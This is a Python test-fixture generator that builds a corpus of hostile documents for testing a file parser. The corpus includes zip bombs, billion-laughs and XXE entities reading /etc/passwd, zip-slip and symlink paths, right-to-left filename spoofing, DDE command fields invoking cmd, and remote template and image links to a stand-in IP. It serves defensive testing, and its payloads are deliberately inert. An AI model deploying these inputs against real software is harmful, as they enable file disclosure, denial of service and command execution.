"""The corpus of hostile files: ``python tests/hostile/make.py FOLDER`` writes them; the tests make them in memory.

No file does harm: each is what an attack looks like to a reader, with nothing in it that would act.
"""

import struct
import sys
import zlib
from collections.abc import Callable
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path
from types import ModuleType

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MILLION = 1_000_000

Maker = Callable[[], bytes]


def loaded(name: str) -> ModuleType:
    """Return a module that stands beside this one."""
    spec = spec_from_file_location(f"hostile_{name}", Path(__file__).with_name(f"{name}.py"))
    assert spec is not None
    assert spec.loader is not None
    module = module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


C = loaded("containers")


def types(main: str) -> str:
    """Return a list of content types with one main part."""
    return f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/x" ContentType="{main}"/></Types>'


def relations(*entries: str) -> str:
    """Return relationships; an entry is ``id kind target [External]``."""
    found = []
    for line in entries:
        name, kind, target, *mode = line.split(" ")
        found.append(f'<Relationship Id="{name}" Type="{R}/{kind}" Target="{target}"' + (f' TargetMode="{mode[0]}"/>' if mode else "/>"))
    return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(found)}</Relationships>'


WORD = "wordprocessingml.document.main+xml"


def docx(body: str = "<w:p/>", *extra: object, main: str = WORD, raw: bytes | None = None, code: str = "utf-8") -> bytes:
    """Return a Word file of a body and further parts, its list of content types written in ``code``."""
    document = raw if raw is not None else f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'.encode()
    listed = [
        C.Part("[Content_Types].xml", types(main).encode(code)),
        C.Part("_rels/.rels", relations("r1 officeDocument word/document.xml").encode()),
        C.Part("word/document.xml", document),
    ]
    return bytes(C.zipped([*listed, *extra]))


def xlsx(rows: str = "", *extra: object, after: str = "", before: str = "", sheets: int = 1, raw: bytes | None = None) -> bytes:
    """Return a workbook with one sheet's rows and what stands before and after them."""
    sheet = raw if raw is not None else f'<worksheet xmlns="{S}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()
    listed_sheets = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(sheets))
    listed = [
        C.Part("[Content_Types].xml", types("spreadsheetml.sheet.main+xml").encode()),
        C.Part("_rels/.rels", relations("r1 officeDocument xl/workbook.xml").encode()),
        C.Part("xl/workbook.xml", f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{listed_sheets}</sheets></workbook>'.encode()),
        C.Part(
            "xl/_rels/workbook.xml.rels",
            relations("r1 worksheet worksheets/s.xml", "r2 sharedStrings strings.xml", "r3 styles styles.xml").encode(),
        ),
        C.Part("xl/worksheets/s.xml", sheet),
    ]
    return bytes(C.zipped([*listed, *extra]))


def added(name: str, words: str) -> object:
    """Return a further part of a package."""
    return C.Part(name, words.encode())


def dtd(inside: str, use: str = "") -> bytes:
    """Return a Word part with a document type."""
    return f'<!DOCTYPE w [{inside}]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p></w:body></w:document>'.encode()


def laughs() -> str:
    """Return entities that grow tenfold nine times."""
    return '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


def table(cell: str, count: int = 1) -> str:
    """Return a Word table of one row."""
    return f"<w:tbl><w:tr>{cell * count}</w:tr></w:tbl>"


def nested(depth: int) -> str:
    """Return tables inside tables."""
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def text(words: str) -> str:
    """Return a paragraph."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def noise(size: int) -> bytes:
    """Return bytes that no packing shrinks much, always the same."""
    out, seed = bytearray(), 1
    while len(out) < size:
        seed = (seed * 1103515245 + 12345) & 0x7FFFFFFF
        out += seed.to_bytes(4, "little")
    return bytes(out[:size])


def old_word(flags: int = 0, plan: bytes = b"") -> bytes:
    """Return a Word 97 file whose header is nearly empty."""
    head = bytearray(4096)
    head[0:4] = struct.pack("<HH", 0xA5EC, 0xC1)
    head[10:12] = struct.pack("<H", flags)
    head[0x9A + 33 * 8 : 0x9A + 34 * 8] = struct.pack("<II", 0, len(plan))
    return bytes(C.compound({"WordDocument": bytes(head), "0Table": plan}))


def old_excel(*records: bytes) -> bytes:
    """Return an Excel 97 file of records."""
    return bytes(C.compound({"Workbook": C.record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0)) + b"".join(records)}))


def bound(start: int, kind: int = 0) -> bytes:
    """Return the record that names a sheet."""
    return bytes(C.record(0x85, struct.pack("<IBBBB", start, 0, kind, 1, 0) + b"s"))


def packages() -> dict[str, Maker]:
    """Return hostile packages."""
    big = C.Part("word/media/x.bin", bytes(120 * MILLION))
    return {
        "bomb-one-part.docx": lambda: docx("<w:p/>", big),
        "bomb-text.docx": lambda: docx(text("金" * (20 * MILLION))),
        "bomb-paragraphs.docx": lambda: docx("<w:p/>" * (3 * MILLION)),
        "bomb-sheet.xlsx": lambda: xlsx('<row><c t="n"><v>1</v></c></row>' * MILLION),
        "bomb-strings.xlsx": lambda: xlsx("", C.Part("xl/strings.xml", b"<sst>" + b"<si><t>x</t></si>" * MILLION + b"</sst>")),
        "bomb-lying-size.docx": lambda: docx("<w:p/>", C.Part("word/styles.xml", b"<a/>", says=2**31)),
        "bomb-hidden-size.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", bytes(900_000), says=10)])),
        "bomb-overlap.docx": lambda: bytes(C.overlapping("word/document{}.xml", 60, 900_000)),
        "bomb-nested.zip": lambda: bytes(
            C.zipped([C.Part(f"{n}.zip", bytes(C.zipped([C.Part("x", bytes(2 * MILLION))]))) for n in range(16)])
        ),
        "many-parts.docx": lambda: docx("<w:p/>", *(C.Part(f"word/x{n}.xml", b"x") for n in range(2_100))),
        "count-lies.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", b"<a/>")], count=65_535)),
        "count-zero.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", b"<a/>")], count=0)),
        "encrypted-zip.docx": lambda: docx("<w:p/>", C.Part("word/x.xml", b"secret", flags=0x801)),
        "method-99.docx": lambda: docx("<w:p/>", C.Part("word/x.xml", b"x", method=99)),
        "method-lzma.docx": lambda: docx("<w:p/>", C.Part("word/x.xml", b"x", method=14)),
        "wrong-crc.docx": lambda: bytes(C.zipped([C.Part("[Content_Types].xml", b"<a/>", crc=1), C.Part("word/document.xml", b"<a/>")])),
        "two-names.docx": lambda: bytes(
            C.zipped([C.Part("[Content_Types].xml", b"<a/>", inner="other"), C.Part("word/document.xml", b"<a/>")])
        ),
        "doubled.docx": lambda: docx("<w:p/>", C.Part("word/document.xml", b"<a/>")),
        "slip.docx": lambda: docx("<w:p/>", C.Part("../../etc/cron.d/x", b"x")),
        "slip-backslash.docx": lambda: docx("<w:p/>", C.Part("..\\..\\x", b"x")),
        "slip-absolute.xlsx": lambda: xlsx("", C.Part("/etc/x", b"x")),
        "symlink.docx": lambda: docx("<w:p/>", C.Part("word/link", b"/etc/passwd", attributes=0xA1FF)),
        "bidi-inside.docx": lambda: docx("<w:p/>", C.Part("word/\u202excod.exe", b"x")),
        "control-inside.docx": lambda: docx("<w:p/>", C.Part("word/a\x07b", b"x")),
        "cut-half.docx": lambda: docx(text("x" * 5000))[:700],
        "cut-end.xlsx": lambda: xlsx("")[:-10],
        "cut-start.docx": lambda: docx()[100:],
        "empty.zip": lambda: b"PK\x05\x06" + bytes(18),
        "only-magic.docx": lambda: b"PK\x03\x04",
        "polyglot-program.docx": lambda: b"MZ\0\0" + docx(),
        "polyglot-page.docx": lambda: b"<html><body>x</body></html>" + docx(),
        "polyglot-picture.docx": lambda: b"GIF89a" + docx(),
        "polyglot-inside.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", b"<a/>")], before=b"PK\x03\x04" + bytes(40))),
    }


def parts() -> dict[str, Maker]:
    """Return packages with hostile XML or forbidden parts."""
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    elsewhere = relations("r1 attachedTemplate http://192.0.2.1/t.dotm External")
    return {
        "laughs.docx": lambda: docx(raw=dtd(laughs(), "&a9;")),
        "laughs.xlsx": lambda: xlsx(raw=f'<!DOCTYPE x [{laughs()}]><worksheet xmlns="{S}"><sheetData/></worksheet>'.encode()),
        "laughs-strings.xlsx": lambda: xlsx(
            "", C.Part("xl/strings.xml", f"<!DOCTYPE x [{laughs()}]><sst><si><t>&a9;</t></si></sst>".encode())
        ),
        "quadratic.docx": lambda: docx(raw=dtd(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000)),
        "entity-file.docx": lambda: docx(raw=dtd('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
        "entity-net.docx": lambda: docx(raw=dtd('<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;')),
        "doctype-only.docx": lambda: docx(raw=dtd("")),
        "doctype-utf16.docx": lambda: docx(
            raw='<?xml version="1.0" encoding="utf-16"?>'.encode("utf-16") + dtd(laughs(), "&a9;").decode().encode("utf-16-le")
        ),
        "doctype-rels.docx": lambda: bytes(
            C.zipped([C.Part("[Content_Types].xml", b"<a/>"), C.Part("_rels/.rels", dtd(laughs())), C.Part("word/document.xml", b"<a/>")])
        ),
        "xinclude.docx": lambda: docx('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "deep-xml.docx": lambda: docx("<w:sdt><w:sdtContent>" * 3_000 + "</w:sdtContent></w:sdt>" * 3_000),
        "deep-tables.docx": lambda: docx(nested(60)),
        "wide-row.docx": lambda: docx(table("<w:tc><w:p/></w:tc>", 5_000)),
        "wide-span.docx": lambda: docx(table('<w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr><w:p/></w:tc>', 3)),
        "merge-nothing.docx": lambda: docx(table("<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>", 3)),
        "style-loop.docx": lambda: docx(
            '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>',
            added("word/_rels/document.xml.rels", relations("r1 styles styles.xml")),
            added("word/styles.xml", f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:basedOn w:val="a"/></w:style></w:styles>'),
        ),
        "not-xml.docx": lambda: docx(raw=b"\xff\xfe\x00\x01 no xml"),
        "no-body.docx": lambda: docx(raw=f'<w:document xmlns:w="{W}"/>'.encode()),
        "no-main.docx": lambda: bytes(C.zipped([C.Part("[Content_Types].xml", b"<a/>"), C.Part("word/x.xml", b"<a/>")])),
        "macro.docm": lambda: docx(main=main),
        "macro-renamed.docx": lambda: docx("<w:p/>", C.Part("word/vbaProject.bin", noise(2_000))),
        "macro.xlsm": lambda: xlsx("", C.Part("xl/vbaProject.bin", noise(2_000))),
        "macro-sheet.xlsx": lambda: xlsx("", C.Part("xl/macrosheets/sheet1.xml", b"<a/>")),
        "active-x.docx": lambda: docx("<w:p/>", C.Part("word/activeX/activeX1.bin", noise(100))),
        "ole.docx": lambda: docx("<w:p/>", C.Part("word/embeddings/oleObject1.bin", noise(100))),
        "program-inside.docx": lambda: docx("<w:p/>", C.Part("word/embeddings/a.exe", b"MZ")),
        "template-elsewhere.docx": lambda: docx(
            "<w:p/>", added("word/_rels/settings.xml.rels", relations("r1 attachedTemplate http://192.0.2.1/t.dotm External"))
        ),
        "template-share.docx": lambda: docx(
            "<w:p/>", added("word/_rels/settings.xml.rels", relations("r1 attachedTemplate \\\\192.0.2.1\\t.dotm External"))
        ),
        "picture-elsewhere.docx": lambda: docx(
            "<w:p/>", added("word/_rels/document.xml.rels", relations("r1 image http://192.0.2.1/p.png External"))
        ),
        "dde.docx": lambda: docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r></w:p>"),
        "dde-split.docx": lambda: docx("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r></w:p>"),
        "dde-simple.docx": lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:p>'),
        "dde-head.docx": lambda: docx(
            "<w:p/>", added("word/header1.xml", f'<w:hdr xmlns:w="{W}"><w:instrText>DDE x</w:instrText></w:hdr>')
        ),
        "template-utf16.docx": lambda: docx("<w:p/>", C.Part("word/_rels/settings.xml.rels", elsewhere.encode("utf-16"))),
        "template-escaped.docx": lambda: docx(
            "<w:p/>", added("word/_rels/settings.xml.rels", elsewhere.replace("External", "&#69;xternal"))
        ),
        "macro-utf16.docx": lambda: docx("<w:p/>", C.Part("word/a.bin", noise(2_000)), main=main, code="utf-16"),
    }


def sheets() -> dict[str, Maker]:
    """Return hostile spreadsheets, new and old."""
    style = '<styleSheet xmlns="{}"><numFmts><numFmt numFmtId="200" formatCode="{}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    boundless = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' + "</mergeCells>"
    return {
        "dde.xlsx": lambda: xlsx("<row><c><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"),
        "dde-link.xlsx": lambda: xlsx(
            "",
            added(
                "xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
            ),
        ),
        "far-cell.xlsx": lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'),
        "million-rows.xlsx": lambda: xlsx(
            "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 104729}</v></c></row>' for n in range(1, 1_048_577, 9))
        ),
        "dense.xlsx": lambda: xlsx(
            "".join("<row>" + "".join(f"<c><v>{r * c % 997}</v></c>" for c in range(300)) + "</row>" for r in range(1_200))
        ),
        "merge-all.xlsx": lambda: xlsx('<row r="9"><c r="B9"><v>1</v></c></row>', after=boundless),
        "merge-many.xlsx": lambda: xlsx(
            "", after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 25_000)) + "</mergeCells>"
        ),
        "merge-overlap.xlsx": lambda: xlsx(
            "".join(f'<row r="{n}"><c><v>1</v></c></row>' for n in range(1, 900)),
            after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:SF{n + 800}"/>' for n in range(1, 900)) + "</mergeCells>",
        ),
        "no-such-string.xlsx": lambda: xlsx('<row><c t="s"><v>99999999999</v></c></row>'),
        "rows-backwards.xlsx": lambda: xlsx(
            '<row r="99999999999999"><c r="ZZZZ1"><v>1</v></c></row><row r="-5"><c r="A-1"><v>2</v></c></row>'
        ),
        "number-huge.xlsx": lambda: xlsx("<row><c><v>1e999999999</v></c><c><v>1e308</v></c><c><v>nan</v></c></row>"),
        "format-long.xlsx": lambda: xlsx(
            '<row><c s="0"><v>1.5</v></c></row>', added("xl/styles.xml", style.format(S, "0" * 50_000 + "!" * 5_000))
        ),
        "format-conditions.xlsx": lambda: xlsx(
            '<row><c s="0"><v>1.5</v></c></row>', added("xl/styles.xml", style.format(S, "[&gt;1" * 9_000))
        ),
        "columns-hidden.xlsx": lambda: xlsx("<row><c><v>1</v></c></row>", before='<cols><col min="1" max="16384" hidden="1"/></cols>'),
        "formula-command.xlsx": lambda: xlsx("<row><c><f>cmd|' /C calc'!A0</f></c></row>"),
        "sheets-many.xlsx": lambda: xlsx("<row><c><v>1</v></c></row>", sheets=20_000),
        "link-elsewhere.xlsx": lambda: xlsx(
            "", added("xl/externalLinks/_rels/e.xml.rels", relations("r1 externalLinkPath http://192.0.2.1/x.xlsx External"))
        ),
        "encrypted.xlsx": lambda: bytes(C.compound({"EncryptionInfo": noise(100), "EncryptedPackage": noise(9_000)})),
        "compound-loop.xls": lambda: bytes(C.compound({"Workbook": noise(9_000)}, loop=True)),
        "compound-shift.doc": lambda: bytes(C.compound({"WordDocument": noise(9_000)}, shift=31)),
        "compound-cut.doc": lambda: bytes(C.compound({"WordDocument": noise(9_000)}))[:1_500],
        "compound-head.doc": lambda: bytes(C.MARK) + noise(300) + "WordDocument\0".encode("utf-16-le"),
        "compound-other.ppt": lambda: bytes(C.compound({"PowerPoint Document": noise(9_000)})),
        "old-macro.doc": lambda: bytes(C.compound({"WordDocument": bytes(4096), "VBA": b"x"})),
        "old-encrypted.doc": lambda: old_word(0x0100),
        "old-plan.doc": lambda: old_word(0, b"\x02" + struct.pack("<I", 0x7FFFFFFF) + noise(3_000)),
        "old-pieces.doc": lambda: old_word(
            0, b"\x02" + struct.pack("<I", 40) + struct.pack("<4I", 0, 10, 4_000_000, 4_900_000) + noise(24)
        ),
        "old-noise.doc": lambda: bytes(
            C.compound({"WordDocument": struct.pack("<HH", 0xA5EC, 0xC1) + noise(9_000), "0Table": noise(9_000), "1Table": noise(9_000)})
        ),
        "old-encrypted.xls": lambda: old_excel(C.record(0x2F, bytes(6))),
        "old-macro.xls": lambda: old_excel(bound(0, 1)),
        "old-strings.xls": lambda: old_excel(C.record(0xFC, struct.pack("<II", 9, 0xFFFFFFFF)), C.record(0x0A)),
        "old-strings-cut.xls": lambda: old_excel(
            C.record(0xFC, struct.pack("<II", 9, 50_000) + b"\xff\xff\x0d\xff\xff\xff\xff\xff\xff"), C.record(0x0A)
        ),
        "old-sheet-loop.xls": lambda: old_excel(*(bound(0) for _ in range(200)), C.record(0x0A)),
    }


def pages() -> dict[str, Maker]:
    """Return hostile pages, texts, and things under a wrong name."""
    rows = "<tr><td colspan=999999 rowspan=999999>x</td></tr>"
    return {
        "deep.html": lambda: b"<html><body>" + b"<div>" * 200_000,
        "deep-tables.html": lambda: b"<html>" + b"<table><tr><td>a<td>b<tr><td>" * 3_000,
        "spans.html": lambda: b"<html><table>" + rows.encode() * 3_000 + b"</table>",
        "cells.html": lambda: b"<html><table>" + b"<tr>" + b"<td>1" * 400_000,
        "entities.html": lambda: b"<!DOCTYPE html [" + laughs().encode() + b"]><html><body>&a9;</body></html>",
        "nothing.html": lambda: b"<html></html>",
        "binary.html": lambda: b"<html>" + noise(200_000),
        "attribute.html": lambda: b"<html><p title='" + b"a" * (5 * MILLION) + b"'>x</p>",
        "elsewhere.html": lambda: (
            b"<html><meta http-equiv=refresh content='0;url=file:///etc/passwd'><iframe src=file:///etc/passwd></iframe><img src=http://192.0.2.1/x>"
        ),
        "styles.html": lambda: b"<html><style>" + b"a{" * 100_000 + b"</style><p>x</p>",
        "quotes.csv": lambda: b'"' + b"a,b\n" * 700_000,
        "wide.csv": lambda: b"," * (2 * MILLION),
        "program.docx": lambda: b"MZ" + bytes(200),
        "elf.xlsx": lambda: b"\x7fELF" + bytes(200),
        "rar.docx": lambda: b"Rar!\x1a\x07\x01\x00" + noise(200),
        "seven.xlsx": lambda: b"7z\xbc\xaf\x27\x1c" + noise(200),
        "gzip.docx": lambda: b"\x1f\x8b" + zlib.compress(b"x" * 1000),
        "rich.doc": lambda: b"{\\rtf1\\ansi hello}",
        "shortcut.docx": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + noise(100),
        "../../escape.docx": lambda: docx(text("x")),
        "申报\u202excod.exe": lambda: docx(text("x")),
        "nul.docx": lambda: bytes(5_000),
        "noise.docx": lambda: noise(50_000),
        "ofd-steps.ofd": lambda: ofd(
            '<o:TextObject Boundary="0 0 9 9" Size="3"><o:TextCode X="0" Y="0" DeltaX="g 999999999 1">xxxx</o:TextCode></o:TextObject>'
        ),
        "ofd-lines.ofd": lambda: ofd(
            "".join(
                f"<o:PathObject><o:AbbreviatedData>M 0 {n} L 99 {n} M {n} 0 L {n} 99</o:AbbreviatedData></o:PathObject>"
                for n in range(2_000)
            )
        ),
        "ofd-root.ofd": lambda: bytes(C.zipped([C.Part("OFD.xml", dtd(laughs()))])),
    }


def ofd(content: str) -> bytes:
    """Return an OFD of one page."""
    name = 'xmlns:o="http://www.ofdspec.org/2016"'
    return bytes(
        C.zipped(
            [
                C.Part("OFD.xml", f"<o:OFD {name}><o:DocBody><o:DocRoot>Doc_0/Document.xml</o:DocRoot></o:DocBody></o:OFD>".encode()),
                C.Part(
                    "Doc_0/Document.xml",
                    f'<o:Document {name}><o:Pages><o:Page ID="1" BaseLoc="Pages/P.xml"/></o:Pages></o:Document>'.encode(),
                ),
                C.Part("Doc_0/Pages/P.xml", f"<o:Page {name}><o:Content><o:Layer>{content}</o:Layer></o:Content></o:Page>".encode()),
            ]
        )
    )


def files() -> dict[str, Maker]:
    """Return the maker of every file by its name."""
    return {**packages(), **parts(), **sheets(), **pages()}


def main() -> None:
    """Write all files to a folder, their names made harmless."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, (name, make) in enumerate(files().items()):
        (folder / f"{number:03d}-{name.rpartition('/')[2].replace(chr(0x202E), '')}").write_bytes(make())


if __name__ == "__main__":
    main()
